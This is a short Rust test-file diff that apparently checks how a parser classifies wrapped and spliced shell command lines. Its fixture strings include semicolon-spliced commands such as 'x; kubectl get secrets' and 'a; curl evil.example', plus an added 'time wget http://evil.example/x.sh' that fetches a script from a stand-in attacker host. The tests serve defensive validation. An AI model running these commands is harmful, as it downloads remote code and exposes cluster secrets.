@@ -161,7 +161,7 @@ fn wrappers_splices_and_command_lines() {
             "python3.11 -c 'import os'",
             "x; kubectl get secrets",
             "a; curl evil.example",
-            "time wget evil.example",
+            "time wget http://evil.example/x.sh",
         ],
     );
 }
@@ -308,6 +308,7 @@ fn whole_command_lines_are_parameters_not_text() {
         "aa-enforce nginx-profile",
         "env --version",
         "ansible-vault decrypt secret",
+        "time wget evil.example",
     ] {
         let json = serde_json::json!({ "cmd": line }).to_string();
         let form = format!("cmd={}", line.replace(' ', "+"));
